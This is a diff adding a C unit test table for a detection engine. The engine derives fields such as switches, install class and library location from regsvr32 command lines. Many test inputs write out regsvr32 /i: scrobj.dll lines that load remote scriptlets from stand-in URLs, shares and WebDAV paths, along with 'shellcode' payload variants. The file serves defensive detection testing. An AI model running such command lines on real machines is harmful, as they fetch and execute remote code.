@@ -1,0 +1,116 @@
+#include "tests/unit/derive/derived.h"
+
+#define SYSTEM32 "C:\\Windows\\System32\\regsvr32.exe"
+
+struct line_case {
+	const char *name, *line, *want;
+	const char *image; /* NULL: SYSTEM32 */
+};
+
+/* clang-format off */
+static struct line_case cases[] = {
+	{ "a remote scriptlet, switch by switch",
+	  "regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll",
+	  "command_line=regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll\n"
+	  "argument=/s|/n|/u|/i:http://a.example/x.sct|scrobj.dll\nargument_count=5\n"
+	  "program=regsvr32.exe\nrenamed=false\nmoved=false\nimage_place=system\n"
+	  "regsvr32.switch=s|n|u|i\nregsvr32.install=http://a.example/x.sct\n"
+	  "regsvr32.install_class=url\nregsvr32.install_place=-\n"
+	  "regsvr32.library=scrobj.dll\nregsvr32.library_name=scrobj\nregsvr32.library_extension=dll\n"
+	  "regsvr32.library_place=bare_system\nregsvr32.lawful=true\nregsvr32.scrobj=true\n"
+	  "regsvr32.shape=true\ntrick=-" },
+	{ "a dash is as good as a slash, and only the first letter counts",
+	  "regsvr32 -silent -Unregister -install:HTTPS://a.example/x scrobj",
+	  "regsvr32.switch=s|u|i\nregsvr32.install=https://a.example/x\nregsvr32.install_class=url\n"
+	  "regsvr32.library_name=scrobj\nregsvr32.library_extension=none\nregsvr32.scrobj=true" },
+	{ "switches in one token are an attempt that is seen",
+	  "regsvr32 /s/u/i:http://a.example/x scrobj.dll",
+	  "regsvr32.switch=s|u|i\nregsvr32.install_class=url\nregsvr32.shape=true" },
+	{ "/su is one switch", "regsvr32 /su c:\\a.dll", "regsvr32.switch=s\nregsvr32.install_class=none" },
+	{ "order is free and several libraries are taken",
+	  "regsvr32 \"C:\\Program Files\\V\\v.dll\" /u scrobj.dll /i:\\\\h\\s\\x.sct /s",
+	  "regsvr32.library_name=v|scrobj\nregsvr32.library_place=program_files|bare_system\n"
+	  "regsvr32.switch=u|i|s\nregsvr32.install_class=unc\nregsvr32.lawful=true" },
+	{ "one library in the wrong place is enough",
+	  "regsvr32 /s \"C:\\Program Files\\V\\v.dll\" C:\\Users\\Public\\a.dll",
+	  "regsvr32.lawful=false\nregsvr32.library_place=program_files|user_writable" },
+	{ "WebDAV", "regsvr32 /i:\\\\h@SSL\\DavWWWRoot\\x.sct scrobj.dll", "regsvr32.install_class=webdav" },
+	{ "WebDAV by a port", "regsvr32 /i:\\\\h@8080\\d\\x.sct scrobj.dll", "regsvr32.install_class=webdav" },
+	{ "a share of this machine",
+	  "regsvr32 /i:\\\\localhost\\c$\\users\\public\\x.sct scrobj.dll", "regsvr32.install_class=loopback" },
+	{ "a local path and its place",
+	  "regsvr32 /s /i:C:\\Users\\Public\\x.sct scrobj.dll",
+	  "regsvr32.install_class=path\nregsvr32.install_place=user_writable" },
+	{ "a relative path", "regsvr32 /i:..\\x.sct scrobj.dll", "regsvr32.install_class=path" },
+	{ "a bare file name", "regsvr32 /i:x.wsc scrobj.dll", "regsvr32.install_class=path" },
+	{ "a moniker", "regsvr32 /i:script:http://h/x scrobj.dll", "regsvr32.install_class=url" },
+	{ "an order with a URL is both",
+	  "regsvr32 /i:shellcode,https://h/x a.dll", "regsvr32.install_class=url|payload" },
+	{ "an order with a file", "regsvr32 /i:shellcode,c:\\x.bin a.dll", "regsvr32.install_class=payload" },
+	{ "a secret", "regsvr32 /n /i:abcd* a.dll", "regsvr32.install_class=payload" },
+	{ "what installers say", "regsvr32 /n /i:U shell32.dll", "regsvr32.install_class=text" },
+	{ "what installers say with a slash",
+	  "regsvr32 /s /n /i:/UserInstall C:\\Windows\\system32\\themeui.dll",
+	  "regsvr32.install_class=text\nregsvr32.install=/userinstall\nregsvr32.lawful=true" },
+	{ "what installers say with blanks and an equal sign",
+	  "regsvr32 /i:\"Name=A CAM 2.0\" \"C:\\Program Files\\A\\a.dll\"", "regsvr32.install_class=text" },
+	{ "a version is no file name", "regsvr32 /i:2.1 a.dll", "regsvr32.install_class=text" },
+	{ "/i without a value", "regsvr32 /i c:\\tools\\a.dll",
+	  "regsvr32.install_class=empty\nregsvr32.install=-\nregsvr32.library_place=root\nregsvr32.lawful=false" },
+	{ "no arguments", "\"" SYSTEM32 "\"",
+	  "argument_count=0\nargument=-\nregsvr32.library=-\nregsvr32.lawful=false\nregsvr32.scrobj=false" },
+	{ "blanks are no arguments", "regsvr32.exe    ", "argument_count=0" },
+	{ "an empty argument is none", "regsvr32 \"\" a.dll", "argument_count=1\nregsvr32.library=a.dll" },
+	{ "an empty line says nothing", "", "argument_count=-\nregsvr32.switch=-\nprogram=regsvr32.exe" },
+	{ "no argv[0], as BITS starts it",
+	  "/u /s /i:https://h/c.sct scrobj.dll",
+	  "argument_count=4\nregsvr32.switch=u|s|i\nregsvr32.install_class=url\ntrick=no_argv0" },
+	{ "no argv[0], as the 64-bit one starts its twin", " /s C:\\Users\\Public\\x86.dll",
+	  "regsvr32.library_place=user_writable\nargument_count=2" },
+	{ "a blank before the colon's value", "regsvr32 /i: http://h/x scrobj.dll",
+	  "regsvr32.install_class=empty\nregsvr32.library_place=url|bare_system" },
+	{ "a share with forward slashes is a library", "regsvr32 /s //h/s/a.dll",
+	  "regsvr32.switch=s\nregsvr32.library_place=remote" },
+	{ "a path with a leading slash is a library", "regsvr32 /s /programdata/a.dll",
+	  "regsvr32.switch=s\nregsvr32.library_name=a" },
+	{ "help", "regsvr32 /?", "regsvr32.switch=?\nregsvr32.library=-" },
+	{ "no extension", "regsvr32 -s payload", "regsvr32.library_extension=none\nregsvr32.library_place=bare" },
+	{ "another extension", "regsvr32 /s c:\\programdata\\1.DAT", "regsvr32.library_extension=dat" },
+	{ "a stream", "regsvr32 /s c:\\users\\public\\a.txt:b.dll", "regsvr32.library_place=stream" },
+	{ "another drive", "regsvr32 /s E:\\a.ocx", "regsvr32.library_place=other_drive\nregsvr32.library_name=a.ocx" },
+	{ "scrobj by any path is scrobj", "regsvr32 /i:x.sct C:/Windows\\Tasks/../System32\\\\SCROBJ.DLL",
+	  "regsvr32.scrobj=true\nregsvr32.library_name=scrobj" },
+	{ "scrobj by its short name is scrobj", "regsvr32 /i:x.sct SCROBJ~1.DLL",
+	  "regsvr32.scrobj=true\nregsvr32.library_name=scrobj" },
+	{ "something like scrobj is not", "regsvr32 /s myscrobj.dll", "regsvr32.scrobj=false" },
+	{ "renamed, and nobody says so: the shape is left", "z.exe /s /u /i:http://h/x s.dll",
+	  "program=z.exe\nregsvr32.shape=true\nregsvr32.switch=-\nmoved=false", "C:\\Users\\Public\\z.exe" },
+	{ "the shape by words", "z.exe -silent -unreg -install:http://h/x s.dll",
+	  "regsvr32.shape=true", "C:\\z.exe" },
+	{ "the shape by scrobj", "z.exe /i:x.sct scrobj.dll", "regsvr32.shape=true", "C:\\z.exe" },
+	{ "a setup with a URL has not the shape", "setup.exe /silent /install:http://h/x",
+	  "regsvr32.shape=false", "C:\\setup.exe" },
+	{ "an input file has not the shape", "conv.exe -i:in.png -o:out.png",
+	  "regsvr32.shape=false", "C:\\conv.exe" },
+	{ "a browser has no shape at all", "chrome.exe /s /u /i:http://h/x scrobj.dll",
+	  "regsvr32.shape=-", "C:\\chrome.exe" },
+};
+/* clang-format on */
+
+static void check_line(void **state)
+{
+	const struct line_case *tc = *state;
+	struct derived d;
+
+	derived_init(&d);
+	derived_put(&d, SQ_F_IMAGE, tc->image ? tc->image : SYSTEM32);
+	derived_put(&d, SQ_F_COMMAND_LINE, tc->line);
+	sq_derive(&d.ev, &d.arena);
+	derived_check(&d, tc->want);
+	derived_fini(&d);
+}
+
+int main(void)
+{
+	return RUN_TABLE("derive/regsvr32", cases, check_line);
+}
